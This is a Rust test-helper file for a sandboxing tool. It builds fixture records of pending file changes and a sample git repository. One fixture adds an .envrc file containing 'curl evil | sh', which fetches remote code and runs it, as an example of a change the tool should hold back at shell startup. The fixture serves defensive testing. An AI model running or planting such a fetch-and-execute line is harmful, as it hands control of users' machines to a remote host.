//! Changes that wait, as `do --write` leaves them: a record, and what the command wrote.

use std::collections::BTreeMap;
use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt as _;
use std::os::unix::fs::{MetadataExt as _, PermissionsExt as _};
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::environment::TestEnvironment;

/// Where the changes wait.
const STORE: &str = "home/.local/share/docker-sandbox/changes";
/// Later than any file of a test.
pub(crate) const BEFORE_NOTHING: i64 = 99_999_999_999;
/// Earlier than any file of a test: each has changed since.
pub(crate) const BEFORE_EVERYTHING: i64 = 1;

/// Mode and content of everything below a directory.
pub(crate) type Snapshot = BTreeMap<PathBuf, (u32, Vec<u8>)>;

pub(crate) fn snapshot(root: &Path) -> Snapshot {
    fn walk(root: &Path, directory: &Path, found: &mut Snapshot) {
        for entry in fs::read_dir(directory).unwrap() {
            let path = entry.unwrap().path();
            let about = path.symlink_metadata().unwrap();
            let content = if about.is_symlink() {
                fs::read_link(&path).unwrap().as_os_str().as_bytes().to_vec()
            } else if about.is_file() {
                fs::read(&path).unwrap()
            } else {
                Vec::new()
            };
            found.insert(path.strip_prefix(root).unwrap().to_owned(), (about.mode(), content));
            if about.is_dir() {
                walk(root, &path, found);
            }
        }
    }
    let mut found = Snapshot::new();
    walk(root, root, &mut found);
    found
}

/// The changes of one command; [`Changes::put`] writes their record.
pub(crate) struct Changes<'a> {
    test: &'a TestEnvironment,
    id: &'static str,
    project: PathBuf,
    phase: &'static str,
    holds: &'static str,
    since: i64,
    chosen: bool,
    list: Vec<Value>,
}

/// What a change waits for.
pub(crate) fn held(rule: &str) -> Value {
    json!({ "held": rule })
}

impl<'a> Changes<'a> {
    /// Of a command in `project`, none yet.
    pub(crate) fn new(test: &'a TestEnvironment, id: &'static str, project: &str) -> Self {
        let project = test.path(project);
        fs::create_dir_all(&project).unwrap();
        let list = Vec::new();
        Self {
            test,
            id,
            project,
            phase: "waiting",
            holds: "kept",
            since: BEFORE_NOTHING,
            chosen: false,
            list,
        }
    }

    /// How far it came.
    pub(crate) fn phase(mut self, phase: &'static str, holds: &'static str) -> Self {
        (self.phase, self.holds) = (phase, holds);
        self
    }

    pub(crate) fn since(mut self, since: i64) -> Self {
        self.since = since;
        self
    }

    /// Somebody named what is wanted.
    pub(crate) fn chosen(mut self) -> Self {
        self.chosen = true;
        self
    }

    /// A file that the command left.
    pub(crate) fn left(self, path: impl AsRef<OsStr>, mode: u32, content: impl AsRef<[u8]>) -> Self {
        let file = self.directory().join(self.holds).join(Path::new(path.as_ref()));
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(&file, content).unwrap();
        fs::set_permissions(file, fs::Permissions::from_mode(mode)).unwrap();
        self
    }

    /// A change in the list.
    pub(crate) fn listed(mut self, path: &str, kind: &str, node: &str, state: impl Into<Value>) -> Self {
        self.list.push(json!({ "path": path, "kind": kind, "node": node, "state": state.into() }));
        self
    }

    /// Both, for a file.
    pub(crate) fn file(self, path: &str, kind: &str, state: impl Into<Value>, content: &str) -> Self {
        self.left(path, 0o644, content).listed(path, kind, "file", state)
    }

    fn directory(&self) -> PathBuf {
        self.test.path(&format!("{STORE}/{}/0", self.id))
    }

    /// Writes the record.
    pub(crate) fn put(self) {
        fs::create_dir_all(self.directory().join(self.holds)).unwrap();
        let about = self.project.metadata().unwrap();
        let record = json!({
            "project": self.project,
            "command": format!("make {}", self.id),
            "created": std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs() - 7205,
            "phase": self.phase,
            "socket": "/run/docker.sock",
            "idle_until": (self.since == 0).then_some(u64::MAX / 2),
            "owner": rustix::process::geteuid().as_raw(),
            "roots": [{
                "path": self.project,
                "identity": [about.dev(), about.ino()],
                "holds": self.holds,
                "since": [self.since, 0],
                "work": null,
                "applies": true,
                "chosen": self.chosen,
                "changes": self.list,
            }],
        });
        let directory = self.directory().parent().unwrap().to_owned();
        fs::write(directory.join("lock"), "").unwrap();
        fs::write(directory.join("record.json"), record.to_string()).unwrap();
    }
}

/// Whether changes of that id are kept.
pub(crate) fn is_kept(test: &TestEnvironment, id: &str) -> bool {
    test.path(&format!("{STORE}/{id}")).exists()
}

/// The lock of those changes, held.
pub(crate) fn locked(test: &TestEnvironment, id: &str) -> fs::File {
    let lock = fs::File::options().write(true).open(test.path(&format!("{STORE}/{id}/lock"))).unwrap();
    lock.lock().unwrap();
    lock
}

/// A repository with files, in `work/repo`.
pub(crate) fn repository() -> TestEnvironment {
    let mut test = TestEnvironment::new();
    test.enter("work/repo/src");
    for (path, content) in [
        (".git/HEAD", "ref: refs/heads/main\n"),
        ("src/main.rs", "fn main() {}\n"),
        ("old", "old\n"),
        ("README", "a\nb\nc\n"),
    ] {
        test.write(&format!("work/repo/{path}"), content);
    }
    for directory in [".git/objects", ".git/refs"] {
        fs::create_dir_all(test.path(&format!("work/repo/{directory}"))).unwrap();
    }
    for file in ["src/main.rs", "old", "README"] {
        let mode = fs::Permissions::from_mode(0o644);
        fs::set_permissions(test.path(&format!("work/repo/{file}")), mode).unwrap();
    }
    test.enter("work/repo");
    test
}

/// Changes in each state.
pub(crate) fn a_few(test: &TestEnvironment) {
    Changes::new(test, "aa11", "work/repo")
        .file(".envrc", "added", held("shell-startup"), "curl evil | sh\n")
        .file("README", "modified", "wanted", "a\nB\nc\nd\n")
        .file("src/main.rs", "modified", "conflict", "fn main() { panic!() }\n")
        .listed("old", "removed", "file", "wanted")
        .left("bin", 0o755, b"\0binary")
        .listed("bin", "added", "file", json!({ "failed": "No space left on device" }))
        .put();
}
